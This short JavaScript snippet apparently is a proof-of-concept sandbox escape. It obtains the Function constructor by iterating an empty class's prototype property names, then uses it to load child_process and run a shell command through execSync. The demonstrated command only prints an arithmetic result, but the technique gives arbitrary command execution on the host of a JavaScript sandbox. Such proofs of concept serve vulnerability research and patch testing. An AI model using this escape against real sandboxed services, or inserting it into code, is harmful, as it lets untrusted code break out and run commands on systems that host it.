class A{}; let F;
for (const k of Object.getOwnPropertyNames(A.prototype)) F=(function(){})[k];
F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
